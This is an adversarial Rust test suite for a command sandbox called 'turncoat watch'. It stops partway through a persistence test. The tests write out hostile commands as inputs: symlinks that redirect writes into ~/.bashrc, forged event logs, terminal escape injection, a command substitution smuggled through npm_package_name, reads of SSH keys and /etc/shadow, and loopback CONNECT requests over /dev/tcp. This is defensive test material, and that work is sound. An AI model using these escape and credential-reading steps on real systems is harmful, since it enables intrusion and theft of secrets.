//! The adversarial suite for `turncoat watch`: each test is a hostile command trying to get out
//! of the sandbox by one principle (issue 12), run as root and — where the machine allows, by
//! dropping to `nobody` with setpriv — as an unprivileged user, in audit and under `--block`.
//!
//! Classes: files turncoat writes after the run (links, forgeries, tampering between runs),
//! values from the sandbox reaching the terminal, the terminal itself (TIOCSTI), inherited file
//! descriptors and credentials in the environment, refusals that must fail `--block`,
//! fileless exec, host unix sockets and vsock, `/tmp` and `/dev/shm`, root, project persistence
//! (every path form, races, links, `package.json` scripts), the egress allowlist, the empty
//! home and its caches, and attribution by the process tree.
//!
//! Hermetic: only loopback listeners and unix sockets this test creates are ever targeted.
//! Tests that need `cc` skip with a message on stderr when it is missing (CI sets
//! TURNCOAT_TEST_REQUIRE_TOOLS=1 and they fail instead). TURNCOAT_ESCAPES_DUMP=1 prints every
//! run.

#![allow(
    clippy::print_stderr,
    reason = "a skipped test says why on stderr instead of passing silently"
)]

use std::os::unix::fs::{PermissionsExt, chown, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::Value;

mod common;

const BIN: &str = env!("CARGO_BIN_EXE_turncoat");
const NOBODY: u32 = 65534;

fn is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("Uid:"))
                .map(|l| l.split_whitespace().nth(2) == Some("0"))
        })
        .unwrap_or(false)
}

/// Who runs `turncoat watch`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum As {
    /// Whoever runs the tests (root in CI).
    Caller,
    /// `nobody`, through setpriv (only when the tests run as root).
    Nobody,
}

/// The users this machine lets us test as: the caller always, `nobody` when we are root and
/// have setpriv.
fn users() -> Vec<As> {
    let mut v = vec![As::Caller];
    if is_root() && Path::new("/usr/bin/setpriv").exists() {
        v.push(As::Nobody);
    } else {
        assert!(
            !is_root() || std::env::var_os("TURNCOAT_TEST_REQUIRE_TOOLS").is_none(),
            "running as root without /usr/bin/setpriv: the unprivileged half cannot run"
        );
        eprintln!("note: unprivileged runs skipped (need root and /usr/bin/setpriv)");
    }
    v
}

/// `home/`, `project/` in a fresh directory, owned by whoever runs the command.
struct World {
    dir: tempfile::TempDir,
    user: As,
}

struct Run {
    code: Option<i32>,
    stdout: String,
    stderr: String,
    events_raw: String,
}

impl Run {
    fn report(&self) -> String {
        format!(
            "\n--- exit: {:?}\n--- stdout\n{}\n--- stderr\n{}\n--- events\n{}\n",
            self.code, self.stdout, self.stderr, self.events_raw
        )
    }

    fn events(&self) -> Vec<Value> {
        self.events_raw
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }

    fn any(&self, pred: impl Fn(&Value) -> bool) -> bool {
        self.events().iter().any(pred)
    }
}

fn field<'a>(e: &'a Value, key: &str) -> &'a str {
    e.get(key).and_then(Value::as_str).unwrap_or("")
}

impl World {
    fn new(user: As) -> World {
        let dir = tempfile::tempdir().expect("tempdir");
        for sub in ["home", "project"] {
            std::fs::create_dir_all(dir.path().join(sub)).expect("mkdir");
        }
        World { dir, user }
    }

    fn root(&self) -> &Path {
        self.dir.path()
    }
    fn home(&self) -> PathBuf {
        self.root().join("home")
    }
    fn project(&self) -> PathBuf {
        self.root().join("project")
    }

    /// Hand everything to `nobody` when it runs the command.
    fn chown_all(&self) {
        if self.user != As::Nobody {
            return;
        }
        fn walk(p: &Path) {
            let _ = chown(p, Some(NOBODY), Some(NOBODY));
            if p.symlink_metadata().is_ok_and(|m| m.is_dir()) {
                for e in std::fs::read_dir(p).into_iter().flatten().flatten() {
                    walk(&e.path());
                }
            }
        }
        walk(self.root());
    }

    /// A command line that runs `program` as this world's user.
    fn command(&self, program: &str) -> Command {
        let mut cmd = match self.user {
            As::Caller => Command::new(program),
            As::Nobody => {
                let mut c = Command::new("/usr/bin/setpriv");
                c.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
                    .arg(program);
                c
            }
        };
        cmd.current_dir(self.project())
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", self.home())
            .env("NO_COLOR", "1")
            .stdin(Stdio::null());
        cmd
    }

    /// `turncoat watch <opts> --events <events> -- <cmd>`.
    fn watch(&self, opts: &[&str], events: &Path, cmd: &[&str], env: &[(&str, &str)]) -> Run {
        let mut c = self.command(BIN);
        c.arg("watch")
            .args(opts)
            .arg("--events")
            .arg(events)
            .arg("--timeout")
            .arg("60")
            .arg("--")
            .args(cmd)
            .envs(env.iter().copied());
        self.run(c, events)
    }

    fn run(&self, mut c: Command, events: &Path) -> Run {
        self.chown_all();
        let out = c.output().expect("run turncoat watch");
        let run = Run {
            code: out.status.code(),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
            events_raw: std::fs::read_to_string(events).unwrap_or_default(),
        };
        if std::env::var_os("TURNCOAT_ESCAPES_DUMP").is_some() {
            eprintln!("{:?} {:?}{}", self.user, c, run.report());
        }
        run
    }
}

/// Compile `tests/watch/<name>.c` into the world's project.
fn compile(world: &World, name: &str) -> Option<PathBuf> {
    if !common::have_tools(name, &["cc"]) {
        return None;
    }
    let src = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/watch")
        .join(format!("{name}.c"));
    let out = world.project().join(name);
    let o = Command::new("cc")
        .args(["-O1", "-Wall", "-o"])
        .arg(&out)
        .arg(&src)
        .output()
        .expect("run cc");
    assert!(
        o.status.success(),
        "cc {}: {}",
        src.display(),
        String::from_utf8_lossy(&o.stderr)
    );
    Some(out)
}

fn s(p: &Path) -> &str {
    p.to_str().expect("UTF-8 temporary paths")
}

/// Every combination the suite runs a principle under.
fn matrix() -> Vec<(As, bool)> {
    users()
        .into_iter()
        .flat_map(|u| [(u, false), (u, true)])
        .collect()
}

fn mode(block: bool) -> &'static [&'static str] {
    if block { &["--block"] } else { &[] }
}

// ---------------------------------------------------------------------------------------
// 1. Files turncoat writes after the run

#[test]
fn output_files_are_never_written_through_links_planted_by_the_command() {
    if !common::have_tools("links", &["sh", "ln"]) {
        return;
    }
    for (user, block) in matrix() {
        let w = World::new(user);
        let bashrc = w.home().join(".bashrc");
        let original = "# the user's own .bashrc\n";
        std::fs::write(&bashrc, original).unwrap();
        let events = w.project().join("watch.jsonl");
        let baseline = w.project().join("baseline.json");
        // Replace both output paths with links to ~/.bashrc, then do something recorded.
        let script = format!(
            "rm -f {ev}; ln -s {rc} {ev}; ln -s {rc} {bl}; \
             echo x > .github-not-really 2>/dev/null; echo ran",
            ev = s(&events),
            bl = s(&baseline),
            rc = s(&bashrc),
        );
        let mut opts = mode(block).to_vec();
        opts.extend(["--baseline", s(&baseline)]);
        let run = w.watch(&opts, &events, &["sh", "-c", &script], &[]);
        let r = run.report();
        assert!(run.stdout.contains("ran"), "{user:?} block={block}{r}");
        assert_eq!(
            std::fs::read_to_string(&bashrc).unwrap(),
            original,
            "{user:?} block={block}: ~/.bashrc was written through a planted link{r}"
        );
        for out in [&events, &baseline] {
            let m = out.symlink_metadata().unwrap();
            assert!(m.is_file(), "{} is not a regular file{r}", out.display());
        }
        assert!(run.any(|e| field(e, "event") == "exec"), "no events{r}");
        let b: Value = serde_json::from_str(&std::fs::read_to_string(&baseline).unwrap())
            .expect("the baseline is turncoat's JSON");
        assert_eq!(b["version"], 1, "{r}");
    }
}

#[test]
fn a_forged_events_file_left_by_the_command_is_replaced() {
    if !common::have_tools("forged", &["sh"]) {
        return;
    }
    for (user, block) in matrix() {
        let w = World::new(user);
        let events = w.project().join("watch.jsonl");
        let forged = r#"{"seq":1,"time":"x","event":"exec","target":"/bin/true","verdict":"allow","source":"seccomp","detail":"FORGED"}"#;
        let script = format!(
            "mv {ev} {ev}.old 2>/dev/null; printf '%s\\n' '{forged}' > {ev}; cat /dev/null; echo ran",
            ev = s(&events)
        );
        let run = w.watch(mode(block), &events, &["sh", "-c", &script], &[]);
        let r = run.report();
        assert!(run.stdout.contains("ran"), "{r}");
        assert!(
            !run.any(|e| field(e, "detail") == "FORGED"),
            "{user:?} block={block}: the forged events survived{r}"
        );
        assert!(
            run.any(|e| field(e, "event") == "exec" && field(e, "target").ends_with("/cat")),
            "the real events are missing{r}"
        );
    }
}

#[test]
fn a_baseline_changed_by_the_command_is_restored_and_fails_the_run() {
    if !common::have_tools("baseline-tamper", &["sh"]) {
        return;
    }
    for (user, block) in matrix() {
        let w = World::new(user);
        let events = w.project().join("watch.jsonl");
        let baseline = w.project().join("baseline.json");
        // Run 1 writes the baseline.
        let run1 = w.watch(
            &["--baseline", s(&baseline)],
            &events,
            &["sh", "-c", "true"],
            &[],
        );
        assert_eq!(run1.code, Some(0), "{}", run1.report());
        let good = std::fs::read_to_string(&baseline).unwrap();
        // Run 2 widens it for run 3 (every program of every package "known").
        let widened = good.replace("\"executables\": [", "\"executables\": [\"-: curl\",");
        assert_ne!(
            widened, good,
            "test setup: the baseline has an executables list"
        );
        let script = format!(
            "printf '%s' '{}' > {bl}.new && mv {bl}.new {bl}; echo ran",
            widened.replace('\'', ""),
            bl = s(&baseline)
        );
        let mut opts = mode(block).to_vec();
        opts.extend(["--baseline", s(&baseline)]);
        let run = w.watch(&opts, &events, &["sh", "-c", &script], &[]);
        let r = run.report();
        assert!(run.stdout.contains("ran"), "{r}");
        assert_eq!(
            std::fs::read_to_string(&baseline).unwrap(),
            good,
            "{user:?} block={block}: the command's baseline survived{r}"
        );
        assert_eq!(run.code, Some(1), "{r}");
        assert!(run.stderr.contains("baseline"), "the reason is given{r}");
    }
}

#[test]
fn values_from_the_sandbox_are_escaped_in_the_summary() {
    if !common::have_tools("escaped", &["sh", "mkdir"]) {
        return;
    }
    for (user, block) in matrix() {
        let w = World::new(user);
        let events = w.project().join("watch.jsonl");
        // A persistence write whose path carries a terminal escape, from a "package" whose
        // name is a shell command substitution with a terminal escape.
        let script = "mkdir -p .github/workflows; \
                      echo x 2>/dev/null > \"$(printf '.github/workflows/\\033]0;pwned\\007\\033[2J.yml')\"; echo ran";
        let run = w.watch(
            mode(block),
            &events,
            &["sh", "-c", script],
            &[("npm_package_name", "$(touch /tmp/x)\u{1b}[31m")],
        );
        let r = run.report();
        assert!(run.stdout.contains("ran"), "{r}");
        assert!(
            run.stderr.contains("persistence-write"),
            "{user:?} block={block}: the write is in the summary{r}"
        );
        assert!(
            !run.stderr.contains('\u{1b}') && !run.stderr.contains('\u{7}'),
            "{user:?} block={block}: a raw escape reached the terminal{r}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// 2. The terminal

#[test]
fn the_command_has_no_terminal_and_tiocsti_is_refused() {
    if !common::have_tools("tiocsti", &["script"]) {
        return;
    }
    for (user, block) in matrix() {
        let w = World::new(user);
        let Some(probe) = compile(&w, "tiocsti") else {
            return;
        };
        // Control: under script(1) the probe has a controlling terminal.
        let mut c = w.command("/usr/bin/script");
        c.args(["-qec", s(&probe), "/dev/null"]);
        w.chown_all();
        let control = String::from_utf8_lossy(&c.output().unwrap().stdout).into_owned();
        assert!(
            control.contains("tiocsti tty_nr=") && !control.contains("tty_nr=0 "),
            "control: no terminal under script(1): {control}"
        );
        let events = w.project().join("watch.jsonl");
        let inner = format!(
            "{BIN} watch {} --events {} -- {}",
            mode(block).join(" "),
            s(&events),
            s(&probe)
        );
        let mut c = w.command("/usr/bin/script");
        c.args(["-qec", &inner, "/dev/null"]);
        let run = w.run(c, &events);
        let r = run.report();
        assert!(
            run.stdout.contains("tty_nr=0 "),
            "{user:?} block={block}: the command has a controlling terminal{r}"
        );
        assert!(
            run.stdout.contains("devtty=errno"),
            "{user:?} block={block}: /dev/tty opened{r}"
        );
        assert!(
            run.stdout.contains("sti0=errno1 ") && run.stdout.contains("linux0=errno1"),
            "{user:?} block={block}: TIOCSTI/TIOCLINUX not refused with EPERM{r}"
        );
        for what in ["ioctl(TIOCSTI)", "ioctl(TIOCLINUX)"] {
            assert!(
                run.any(|e| field(e, "event") == "refused"
                    && field(e, "target") == what
                    && field(e, "verdict") == "deny"),
                "{user:?} block={block}: no refused event for {what}{r}"
            );
        }
        if block {
            assert_eq!(run.code, Some(1), "a refusal fails --block{r}");
        }
    }
}

// ---------------------------------------------------------------------------------------
// 3. What the command inherits: file descriptors and the environment

#[test]
fn inherited_file_descriptors_are_closed() {
    if !common::have_tools("inherited-fd", &["bash"]) {
        return;
    }
    for (user, block) in matrix() {
        let w = World::new(user);
        let Some(probe) = compile(&w, "inherited_fd") else {
            return;
        };
        let secrets = w.root().join("secrets");
        std::fs::create_dir(&secrets).unwrap();
        let token = "npm_INHERITEDFDTOKEN";
        std::fs::write(
            secrets.join(".npmrc"),
            format!("//registry.npmjs.org/:_authToken={token}\n"),
        )
        .unwrap();
        // Control: the probe reads the file through the inherited fd outside the sandbox.
        let mut c = w.command("bash");
        c.args(["-c", "exec 7< \"$1\"; exec \"$2\" 7 .npmrc", "_"])
            .arg(&secrets)
            .arg(&probe);
        w.chown_all();
        let control = String::from_utf8_lossy(&c.output().unwrap().stdout).into_owned();
        assert!(control.contains(token), "control failed: {control}");

        let events = w.project().join("watch.jsonl");
        let mut c = w.command("bash");
        c.args([
            "-c",
            "exec 7< \"$1\"; exec \"$2\" watch $5 --events \"$3\" -- \"$4\" 7 .npmrc",
            "_",
        ])
        .arg(&secrets)
        .arg(BIN)
        .arg(&events)
        .arg(&probe)
        .arg(mode(block).join(" "));
        let run = w.run(c, &events);
        let r = run.report();
        assert!(run.stdout.contains("inherited_fd result="), "{r}");
        assert!(
            !run.stdout.contains(token) && run.stdout.contains("result=fail errno=9"),
            "{user:?} block={block}: the inherited fd reached the command{r}"
        );
    }
}

#[test]
fn credentials_in_the_environment_never_reach_the_command() {
    if !common::have_tools("env-creds", &["env"]) {
        return;
    }
    for (user, block) in matrix() {
        let w = World::new(user);
        let events = w.project().join("watch.jsonl");
        let run = w.watch(
            mode(block),
            &events,
            &["env"],
            &[
                ("npm_config_otp", "918273"),
                (
                    "npm_config_registry",
                    "https://ci-bot:URLTOKEN1@registry.example.invalid/",
                ),
                ("npm_config_cache_url", "http://u:URLTOKEN2@cache.invalid/x"),
                (
                    "NODE_OPTIONS",
                    "--require=https://x:URLTOKEN3@h.invalid/a.js",
                ),
                ("LANG", "C.UTF-8"),
            ],
        );
        let r = run.report();
        assert!(run.stdout.contains("LANG=C.UTF-8"), "env ran{r}");
        for needle in [
            "918273",
            "npm_config_otp",
            "URLTOKEN1",
            "URLTOKEN2",
            "URLTOKEN3",
        ] {
            assert!(
                !run.stdout.contains(needle),
                "{user:?} block={block}: {needle} reached the command{r}"
            );
            assert!(!run.stderr.contains(needle), "{needle} printed{r}");
            assert!(!run.events_raw.contains(needle), "{needle} recorded{r}");
        }
    }
}

// ---------------------------------------------------------------------------------------
// 5. Exec without a path on disk

#[test]
fn fileless_exec_is_recorded() {
    for (user, block) in matrix() {
        let w = World::new(user);
        let Some(probe) = compile(&w, "fileless_exec") else {
            return;
        };
        let events = w.project().join("watch.jsonl");
        let run = w.watch(mode(block), &events, &[s(&probe), "/bin/true"], &[]);
        let r = run.report();
        assert!(
            run.stdout.contains("fileless_exec execveat="),
            "the probe ran{r}"
        );
        let fileless = run
            .events()
            .into_iter()
            .filter(|e| {
                field(e, "event") == "exec"
                    && field(e, "target").contains("memfd:turncoat-fileless")
            })
            .count();
        assert!(
            fileless >= 2,
            "{user:?} block={block}: {fileless} of 2 fileless execs recorded{r}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// 6. Host unix sockets and vsock

#[test]
fn host_unix_sockets_and_vsock_are_unreachable() {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixListener};
    for (user, block) in matrix() {
        let w = World::new(user);
        let (Some(probe), Some(vsock)) = (compile(&w, "unix_connect"), compile(&w, "vsock")) else {
            return;
        };
        // An agent socket in the home directory, and a host abstract socket.
        let agent = w.home().join("agent.sock");
        let listener = UnixListener::bind(&agent).unwrap();
        listener.set_nonblocking(true).unwrap();
        std::fs::set_permissions(&agent, std::fs::Permissions::from_mode(0o777)).unwrap();
        let name = format!("turncoat-escapes-{}", std::process::id());
        let abs = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
        abs.set_nonblocking(true).unwrap();
        // Control: both are reachable outside the sandbox.
        w.chown_all();
        for target in [s(&agent).to_string(), format!("@{name}")] {
            let o = w.command(s(&probe)).arg(&target).output().unwrap();
            let out = String::from_utf8_lossy(&o.stdout);
            assert!(out.contains("result=ok"), "control {target}: {out}");
        }
        while listener.accept().is_ok() {}
        while abs.accept().is_ok() {}

        let events = w.project().join("watch.jsonl");
        // Directly, through a link in the project (its own directory), and abstract.
        let script = format!(
            "{p} {a}; ln -s {a} agent-link.sock; {p} agent-link.sock; {p} @{name}; {v}",
            p = s(&probe),
            a = s(&agent),
            v = s(&vsock)
        );
        let run = w.watch(mode(block), &events, &["sh", "-c", &script], &[]);
        let r = run.report();
        assert_eq!(
            run.stdout.matches("result=fail").count(),
            4,
            "{user:?} block={block}: a host socket was reached{r}"
        );
        assert!(listener.accept().is_err(), "the agent socket accepted{r}");
        assert!(abs.accept().is_err(), "the abstract socket accepted{r}");
        assert!(
            run.any(|e| field(e, "event") == "connect"
                && field(e, "target") == format!("unix:{}", s(&agent))
                && field(e, "verdict") == "deny"),
            "{user:?} block={block}: no denied connect for the agent socket{r}"
        );
        assert!(
            run.any(|e| field(e, "event") == "refused" && field(e, "target") == "socket(vsock)"),
            "{user:?} block={block}: vsock not refused{r}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// 4. Under --block, anything refused fails the run

#[test]
fn anything_refused_under_block_fails_the_run_with_the_reason() {
    for user in users() {
        let w = World::new(user);
        let (Some(tcp), Some(keys)) = (compile(&w, "tcp_connect"), compile(&w, "keyctl")) else {
            return;
        };
        let ssh = w.home().join(".ssh");
        std::fs::create_dir(&ssh).unwrap();
        std::fs::write(
            ssh.join("id_ed25519"),
            "-----BEGIN OPENSSH PRIVATE KEY-----\n",
        )
        .unwrap();
        // The sandbox's loopback has nothing on this port: refused by the kernel anyway, and
        // under --block by us, which must fail the run.
        let attempts: Vec<(Vec<String>, &str)> = vec![
            (
                vec![s(&tcp).into(), "127.0.0.1".into(), "9".into()],
                "127.0.0.1:9",
            ),
            (
                vec!["cat".into(), s(&ssh.join("id_ed25519")).into()],
                "id_ed25519",
            ),
            (vec![s(&keys).into()], "keyctl"),
        ];
        for (cmd, reason) in attempts {
            let events = w.project().join("watch.jsonl");
            let argv: Vec<&str> = cmd.iter().map(String::as_str).collect();
            let run = w.watch(&["--block"], &events, &argv, &[]);
            let r = run.report();
            assert_eq!(
                run.code,
                Some(1),
                "{user:?}: {argv:?} was refused but --block did not fail{r}"
            );
            assert!(
                run.stderr.contains("stopped") && run.stderr.contains(reason),
                "{user:?}: the reason ({reason}) is not given{r}"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------
// 7. /tmp, /dev/shm and limits

#[test]
fn tmp_and_dev_shm_are_private_and_the_home_under_tmp_stays_read_only() {
    if !common::have_tools("private-tmp", &["sh", "grep"]) {
        return;
    }
    for (user, block) in matrix() {
        // The world itself lives under /tmp, like a checkout cloned there.
        let w = World::new(user);
        assert!(w.root().starts_with("/tmp") || std::env::var_os("TMPDIR").is_some());
        let marker = format!(
            "turncoat-escapes-{}-{}-{block}",
            std::process::id(),
            user == As::Nobody
        );
        let host_file = Path::new("/tmp").join(format!("{marker}-host"));
        std::fs::write(&host_file, "host-only").unwrap();
        std::fs::set_permissions(&host_file, std::fs::Permissions::from_mode(0o644)).unwrap();
        let script = format!(
            "cat /tmp/{marker}-host 2>/dev/null && echo SAW-HOST; \
             echo x > /tmp/{marker} && echo tmp=written; \
             echo x > /dev/shm/{marker} && echo shm=written; \
             (echo x > \"$HOME/outside\") 2>/dev/null && echo home=written || echo home=refused; \
             grep 'Max processes' /proc/self/limits"
        );
        let events = w.project().join("watch.jsonl");
        let run = w.watch(mode(block), &events, &["sh", "-c", &script], &[]);
        let r = run.report();
        let _ = std::fs::remove_file(&host_file);
        let leaked = [
            Path::new("/tmp").join(&marker),
            Path::new("/dev/shm").join(&marker),
        ];
        for p in &leaked {
            let there = p.exists();
            let _ = std::fs::remove_file(p);
            assert!(
                !there,
                "{user:?} block={block}: {} reached the host{r}",
                p.display()
            );
        }
        assert!(
            !run.stdout.contains("SAW-HOST"),
            "the host's /tmp is visible{r}"
        );
        assert!(
            run.stdout.contains("tmp=written") && run.stdout.contains("shm=written"),
            "{user:?} block={block}: the private /tmp and /dev/shm are not usable{r}"
        );
        assert!(
            !w.home().join("outside").exists(),
            "{user:?} block={block}: the home under /tmp was written{r}"
        );
        let nproc = run
            .stdout
            .lines()
            .find(|l| l.starts_with("Max processes"))
            .unwrap_or_default();
        assert!(
            !nproc.is_empty() && !nproc.contains("unlimited"),
            "{user:?} block={block}: no process limit: {nproc:?}{r}"
        );
    }
}

#[test]
fn the_degraded_tier_does_not_let_the_command_write_the_hosts_tmp() {
    if !common::have_tools("degraded-tmp", &["sh"]) {
        return;
    }
    for user in users() {
        let w = World::new(user);
        let marker = format!("turncoat-escapes-degraded-{}-{user:?}", std::process::id());
        let script = format!(
            "(echo x > /tmp/{marker}) 2>/dev/null && echo tmp=written || echo tmp=refused; \
             (echo x > \"$HOME/outside\") 2>/dev/null && echo home=written || echo home=refused; \
             mkdir -p \"$HOME/.cache/turncoat\" \"$HOME/.npm/_npx\" 2>/dev/null; \
             echo x > \"$HOME/.cache/turncoat/poison\" 2>/dev/null; \
             echo x > \"$HOME/.npm/_npx/poison\" 2>/dev/null; \
             echo x > \"$TMPDIR/own\" && echo tmpdir=written; \
             mkdir -p \"$npm_config_cache/_cacache\" && echo npm-cache=usable"
        );
        let events = w.project().join("watch.jsonl");
        let run = w.watch(
            &["--tier", "degraded"],
            &events,
            &["sh", "-c", &script],
            &[],
        );
        let r = run.report();
        let host = Path::new("/tmp").join(&marker);
        let there = host.exists();
        let _ = std::fs::remove_file(&host);
        assert!(run.stdout.contains("tmpdir=written"), "{r}");
        assert!(
            run.stdout.contains("npm-cache=usable"),
            "{user:?}: npm has no cache it may write{r}"
        );
        assert!(
            !there && run.stdout.contains("tmp=refused"),
            "{user:?}: /tmp written{r}"
        );
        assert!(
            run.stdout.contains("home=refused"),
            "{user:?}: home under /tmp written{r}"
        );
        for cache in [".cache/turncoat/poison", ".npm/_npx/poison"] {
            assert!(
                !w.home().join(cache).exists(),
                "{user:?}: the degraded tier let the command write the cache {cache}{r}"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------
// 10. The egress allowlist comes from nothing the command could have written

#[test]
fn a_project_npmrc_does_not_widen_the_egress_allowlist() {
    use std::net::TcpListener;
    if !common::have_tools("allowlist", &["bash", "getent"]) {
        return;
    }
    for (user, block) in matrix() {
        let w = World::new(user);
        let catcher = TcpListener::bind("127.0.0.1:0").unwrap();
        catcher.set_nonblocking(true).unwrap();
        let port = catcher.local_addr().unwrap().port();
        // What run 1 left in the project, and what the user configured.
        std::fs::write(
            w.project().join(".npmrc"),
            format!(
                "registry=https://project-registry.invalid/\n@evil:registry=http://127.0.0.1:{port}/\n"
            ),
        )
        .unwrap();
        std::fs::write(
            w.home().join(".npmrc"),
            "registry=https://user-registry.invalid/\n",
        )
        .unwrap();
        let script = format!(
            "getent hosts project-registry.invalid; getent hosts user-registry.invalid; \
             exec 3<>/dev/tcp/127.0.0.1/3128 && \
             printf 'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n' >&3 && \
             head -c 12 <&3; echo"
        );
        let events = w.project().join("watch.jsonl");
        let run = w.watch(mode(block), &events, &["bash", "-c", &script], &[]);
        let r = run.report();
        let dns = |name: &str, verdict: &str| {
            run.any(|e| {
                field(e, "event") == "dns"
                    && field(e, "target") == name
                    && field(e, "verdict") == verdict
            })
        };
        assert!(
            dns("project-registry.invalid", "deny") && !dns("project-registry.invalid", "allow"),
            "{user:?} block={block}: the project's registry was allowed{r}"
        );
        assert!(
            dns("user-registry.invalid", "allow"),
            "{user:?} block={block}: the user's registry is allowed (control){r}"
        );
        assert!(
            run.any(|e| field(e, "event") == "proxy" && field(e, "verdict") == "deny"),
            "{user:?} block={block}: the proxy let the project's loopback registry through{r}"
        );
        assert!(
            catcher.accept().is_err(),
            "the host loopback was reached{r}"
        );
    }
}

/// Loopback and private addresses pass the proxy only when named on the command line: not
/// through a registry (or proxy) in any configuration file, the user's own included.
#[test]
fn configuration_never_opens_the_hosts_loopback_to_the_proxy() {
    use std::net::TcpListener;
    if !common::have_tools("allowlist-loopback", &["bash"]) {
        return;
    }
    for (user, block) in matrix() {
        let w = World::new(user);
        let catcher = TcpListener::bind("127.0.0.1:0").unwrap();
        catcher.set_nonblocking(true).unwrap();
        let port = catcher.local_addr().unwrap().port();
        std::fs::write(
            w.home().join(".npmrc"),
            format!("registry=http://127.0.0.1:{port}/\n@corp:registry=http://10.1.2.3:{port}/\n"),
        )
        .unwrap();
        let script = format!(
            "exec 3<>/dev/tcp/127.0.0.1/3128 && \
             printf 'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n' >&3 && \
             head -c 12 <&3; echo"
        );
        let events = w.project().join("watch.jsonl");
        let run = w.watch(mode(block), &events, &["bash", "-c", &script], &[]);
        let r = run.report();
        assert!(
            run.any(|e| field(e, "event") == "proxy"
                && field(e, "target") == format!("127.0.0.1:{port}")
                && field(e, "verdict") == "deny"),
            "{user:?} block={block}: the user's loopback registry passed the proxy{r}"
        );
        assert!(
            catcher.accept().is_err(),
            "the host loopback was reached{r}"
        );
        assert!(
            run.stderr.contains("--allow-host 127.0.0.1:"),
            "{user:?} block={block}: not told how to allow it{r}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// 8. Root

#[test]
fn root_does_not_hand_uid_0_to_the_command() {
    if !is_root() {
        eprintln!("SKIPPED root_does_not_hand_uid_0_to_the_command: needs root");
        return;
    }
    let script = "id -u; (cat /etc/shadow 2>/dev/null || true) | wc -c";
    // Someone's checkout, run by root: the command runs as the checkout's owner.
    let w = World::new(As::Caller);
    std::fs::set_permissions(w.root(), std::fs::Permissions::from_mode(0o755)).unwrap();
    chown(w.project(), Some(NOBODY), Some(NOBODY)).unwrap();
    let events = w.root().join("watch.jsonl");
    let run = w.watch(&[], &events, &["sh", "-c", script], &[]);
    let r = run.report();
    assert_eq!(
        run.stdout.lines().next(),
        Some("65534"),
        "the command ran as root on a checkout owned by nobody{r}"
    );
    // A checkout owned by root: uid 0 without capabilities, said so, root-only files masked.
    let w = World::new(As::Caller);
    let events = w.root().join("watch.jsonl");
    let run = w.watch(&[], &events, &["sh", "-c", script], &[]);
    let r = run.report();
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(lines.first(), Some(&"0"), "{r}");
    if Path::new("/etc/shadow").is_file() {
        assert_eq!(lines.get(1), Some(&"0"), "/etc/shadow was readable{r}");
    }
    assert!(run.stderr.contains("runs as uid 0"), "not said{r}");
}

// ---------------------------------------------------------------------------------------
// 9. Project persistence

/// A project with the usual places that run code later.
fn persistence_project(w: &World) {
    let p = w.project();
    for d in [".git/hooks", ".github/workflows", ".husky"] {
        std::fs::create_dir_all(p.join(d)).unwrap();
    }
    std::fs::write(p.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::write(p.join(".github/workflows/ci.yml"), "on: push\n").unwrap();
    std::fs::write(p.join(".npmrc"), "fund=false\n").unwrap();
}

/// Every file under `dir` with its contents (a link as "-> target").
fn tree(dir: &Path) -> Vec<(String, String)> {
    let mut out = Vec::new();
    fn walk(base: &Path, p: &Path, out: &mut Vec<(String, String)>) {
        let rel = p.strip_prefix(base).unwrap().display().to_string();
        let Ok(m) = p.symlink_metadata() else { return };
        if m.file_type().is_symlink() {
            out.push((
                rel,
                format!("-> {}", std::fs::read_link(p).unwrap().display()),
            ));
        } else if m.is_dir() {
            out.push((rel, "/".into()));
            let mut kids: Vec<_> = std::fs::read_dir(p)
                .unwrap()
                .flatten()
                .map(|e| e.path())
                .collect();
            kids.sort();
            for k in kids {
                walk(base, &k, out);
            }
        } else {
            out.push((rel, std::fs::read_to_string(p).unwrap_or_default()));
        }
    }
    walk(dir, dir, &mut out);
    out
}

#[test]
fn project_persistence_is_recorded_always_and_read_only_under_block() {
    for (user, block) in matrix() {
        let w = World::new(user);
        let Some(probe) = compile(&w, "persist_ways") else {
            return;
        };
        persistence_project(&w);
        let protected = [".git", ".github", ".husky", ".npmrc"];
        let before: Vec<_> = protected
            .iter()
            .map(|p| tree(&w.project().join(p)))
            .collect();
        let events = w.root().join("watch.jsonl");
        let run = w.watch(mode(block), &events, &[s(&probe)], &[]);
        let r = run.report();
        assert!(run.stdout.contains("yarnrc="), "the probe ran{r}");
        let p = w.project();
        let written = |rel: &str| {
            let target = p.join(rel);
            run.any(|e| {
                field(e, "event") == "persistence-write"
                    && Path::new(field(e, "target")).starts_with(&target)
            })
        };
        for rel in [
            ".github/workflows/chdir.yml",
            ".github/workflows/dirfd.yml",
            ".github/workflows/symlink.yml",
            ".github/workflows/renameat.yml",
            ".vscode",
            ".husky",
            ".git/hooks/pre-commit",
            ".git/config",
            ".npmrc",
            ".envrc",
            ".yarnrc.yml",
        ] {
            assert!(
                written(rel),
                "{user:?} block={block}: no persistence-write for {rel}{r}"
            );
        }
        // Swapping .git for a prepared directory names no hook: refused at the rename under
        // --block, the planted hook recorded otherwise.
        let swap_refused = run.any(|e| {
            field(e, "event") == "persistence-write"
                && field(e, "target") == s(&p.join(".git"))
                && field(e, "verdict") == "deny"
        });
        if block {
